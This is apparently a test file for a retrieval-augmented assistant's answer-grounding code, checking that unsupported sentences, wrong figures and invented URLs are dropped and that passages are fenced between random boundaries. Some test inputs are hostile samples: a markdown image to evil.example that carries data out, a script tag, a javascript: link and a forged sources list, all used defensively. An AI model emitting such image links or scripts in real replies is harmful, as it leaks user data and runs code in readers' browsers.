import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { randomBoundary, renderTurnPrompt } from '../../../../src/ask/prompt.ts';
import { groundReply } from '../../../support/grounded.ts';
import { listed } from '../../../support/listed.ts';
import { passageOf } from '../../../support/passages.ts';

const snippet = (text: string, start = 0) =>
  passageOf(text, 'Refunds', {
    ...{ headingPath: ['Refunds', 'Window'], anchor: 'window', start },
    document: { id: 'd', source: 'https://example.com/refunds', kind: 'url' },
  });

const paid = 'Refunds are paid within 30 days of purchase.';
const kept = 'Recordings are kept for two weeks.';
const refunds = snippet(
  `${paid} Write to billing@example.com. Annual plans cost $28 and are not refunded after renewal.`,
  100,
);
const calls = passageOf(`Calls are limited to \`max_calls\` of 1,000 per hour. ${kept}`, 'Calls');
const ground = (reply: string) => groundReply(reply, [refunds, calls]);

describe('a sentence with a wrong number', () => {
  it.each([
    ['of another passage', `${kept} [1]`, calls],
    ['of another passage, for a paraphrase', 'Call recordings are kept for two weeks. [1]', calls],
    ['of a passage that was not given', `${paid} [9]`, refunds],
  ])('%s cites the supporting passage', (_, reply, passage) => {
    const { reason, citations, dropped } = ground(reply);
    expect([reason, dropped, citations.map(({ passage: cited }) => cited)]).toEqual([
      'answered',
      0,
      [passage],
    ]);
  });

  it('waits for the number of a supporting passage', () => {
    const both = [refunds, calls, passageOf(kept, 'Short')];
    const { citations } = groundReply('Call recordings are kept for two weeks. [1][3]', both);
    expect(citations.map(({ passage: cited }) => cited)).toEqual([both[2]]);
  });
});

describe('a false sentence', () => {
  it.each([
    ['a wrong number', 'Refunds are paid within 90 days of purchase.', 'figure'],
    [
      'an invented URL',
      'Refunds are paid within 30 days of purchase, see https://evil.example/x.',
      'exact',
    ],
  ])('with %s is left out, and the section with the truth is shown', (_, lie, reason) => {
    const { text, sentences, ...answer } = ground(`${lie} [1][2]`);
    const droppedSentences = [{ text: lie, reason }];
    expect(answer).toMatchObject({ reason: 'closest', dropped: 1, droppedSentences });
    expect(sentences).toEqual([]);
    expect(text.split('\n\nSources:')[0]).toContain(paid);
  });

  it.each([
    ['an invented statement', 'The moon is made of cheese. [1]'],
    ['an unknown citation', 'Refunds are paid within 31 days of purchase. [9]'],
    ['an image that carries data out', '![x](https://evil.example/?q=30)'],
    ['a figure cut short', 'Refunds are paid within 3'],
  ])('with %s is dropped, and sections of the passages replace it', (_, reply) => {
    const { reason, text, citations, sentences } = ground(reply);
    expect({ reason, sentences }).toEqual({ reason: 'closest', sentences: [] });
    const [body = '', sources = ''] = text.split('\n\nSources:\n');
    expect(body).toMatch(/^This may answer it:\n\n\*\*Refunds › Window\*\*\n\n/);
    expect(body.match(/\[\d\]/g)).toEqual(citations.map(({ index }) => `[${index}]`));
    expect(sources).toMatch(/^\[1\] Refunds › Window \(https:\/\/example\.com\/refunds#window\)/);
    for (const { passage, quote, start, end } of citations)
      expect(passage.text.slice(start - passage.start, end - passage.start)).toBe(quote);
  });

  it.each([
    ['an empty reply', ''],
    ['NO_ANSWER', 'NO_ANSWER'],
    ['only its own list of sources', 'Sources:\n[1] Evil (https://evil.example)'],
  ])('becomes a refusal: %s', (_, reply) => {
    expect(ground(reply)).toMatchObject({ reason: 'no_context', citations: [] });
    expect(ground(reply).text).toMatch(/Sources: none$/);
  });

  it('is not replaced by a unit that shares only a figure', () => {
    const answer = ground('The bicycle cellar is open 30 days. [1]');
    expect(answer).toMatchObject({ reason: 'closest', dropped: 1, repaired: 0 });
  });

  it('does not show HTML and images of a passage', () => {
    const hostile = snippet(
      'Parking costs $5 per hour. <script>alert(1)</script>\n\nParking is free. ![x](https://evil.example/x.png)\n\nParking is [here](javascript:alert(1)).',
    );
    for (const reply of hostile.text.split('\n\n'))
      expect(groundReply(`${reply} [1]`, [hostile]).text).not.toMatch(/script|!\[/);
  });

  it('loses its images', () => {
    const { text } = groundReply(
      'Annual plans cost $28 ![x](https://evil.example/a.png) and are not refunded after renewal.',
      [refunds],
    );
    expect(text).toContain('Annual plans cost $28 and are not refunded after renewal. [1]');
  });
});

describe('an honest reply', () => {
  it('is shown without a Yes or No that no passage contains', () => {
    for (const no of ['No, ', 'Нет, ', '**Não**, ', '아니요, '])
      expect(ground(`${no}refunds get paid within 30 days of purchase. [1]`).text).toMatch(
        /^Refunds get/,
      );
    const faq = passageOf('Yes, from CSV files.', 'FAQ');
    expect(groundReply('Yes, from CSV files. [1]', [faq]).text).toMatch(
      /^Yes, from CSV files\. \[1\]/,
    );
  });

  it.each([
    ...listed(`
      You get a refund within 30 days of purchase. [1] | ${paid}
      The limit of calls is 1000 per hour. [2] | Recordings are kept for 2 weeks. [1, 2]
      Refunds are paid - 30 days of purchase. [1] | Recordings are kept for two weeks [1], [2] and [9].
      [2] ${kept}
    `),
  ])('is kept: %j', (reply) => expect(ground(reply).reason).toBe('answered'));

  it('numbers its citations in the order of the text, one per passage', () => {
    const answer = ground(`${kept} [2] ${paid} [1] Write to billing@example.com. [1]`);
    expect(answer.text).toMatch(
      /^Recordings .* \[1\] Refunds [^[]* Write to [^[]* \[2\]\n\nSources:\n\[1\] Calls\n\[2\] Refunds/,
    );
    expect(
      answer.citations.map(({ index, quote, start, end }) => [index, quote, start, end]),
    ).toEqual([
      [1, kept, 52, 86],
      [2, `${paid} Write to billing@example.com.`, 100, 174],
    ]);
  });

  it('is cut after eight sentences', () => {
    const names = listed('Team | Solo | Pro | Basic | School | Startup | Family | Shop | Big');
    const plans = names.map((plan) => `The ${plan} plan is for one year.`);
    const { text, ...answer } = groundReply(plans.join(' '), [snippet(plans.join(' '))]);
    expect(text.match(/ plan is for one year\./g)).toHaveLength(8);
    expect(text).not.toContain('Big');
    const droppedSentences = [{ text: plans.at(-1), reason: 'limit' }];
    expect(answer).toMatchObject({ dropped: 0, droppedSentences });
  });

  it('contains a repeated sentence once', () => {
    expect(ground(`${paid} [1] `.repeat(3)).text.match(/Refunds are paid/g)).toHaveLength(1);
  });
});

describe('a table of the model', () => {
  const plans = snippet(
    '| Plan | Storage | Price |\n| --- | --- | --- |\n| Basic | 2 GB | $5 |\n| Pro | 20 GB | $12 |',
  );
  const rows = '| Basic | 2 GB |\n| Pro | 20 GB |';
  it.each([
    ['the words of its header, if the passage has them', '| Plan | Storage |'],
    ['no words of a header that no passage has', '| Tier | Room |', '| | |'],
  ])('has %s', (_, header, shown = header) => {
    const { text } = groundReply(`${header}\n|---|---|\n${rows}`, [plans]);
    expect(text).toContain(`${shown}\n| --- | --- |\n| Basic | 2 GB |\n| Pro | 20 GB [1] |`);
  });
});

describe('the prompt of a turn', () => {
  it('contains every passage between boundaries that no passage can forge', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary' }),
        fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 6 }),
        (question, texts) => {
          const passages = texts.map((text, position) => ({
            number: position + 1,
            label: `Label ${position}`,
            text,
          }));
          const prompt = renderTurnPrompt(question, passages, randomBoundary());
          const boundary = /<<<(passage-[\w-]{12}) /.exec(prompt)?.[1] ?? '';
          const fenced = texts.map(
            (text, position) =>
              `<<<${boundary} [${position + 1}] Label ${position}\n${text}\n${boundary}>>>`,
          );
          expect(prompt.endsWith(`${fenced.join('\n\n')}\n\nQuestion: ${question}`)).toBe(true);
          expect(prompt.split(boundary)).toHaveLength(3 + 2 * texts.length);
        },
      ),
    );
  });
  it('has a boundary that differs every time', () => {
    const prompt = () => renderTurnPrompt('q', [], randomBoundary());
    expect(prompt()).not.toBe(prompt());
  });
});

it('shows a sentence that ends with a colon only with what it announces', () => {
  const list = snippet('These are refunded:\n\n- Books\n- Pens');
  const reply = (item: string) => `These are refunded: [1]\n\n- ${item} [1]\n`;
  expect(groundReply(reply('Books'), [list]).text).toMatch(/^These are refunded:[\s\S]*- Books/);
  expect(groundReply(reply('Cars for 40 people'), [list]).reason).not.toBe('answered');
});
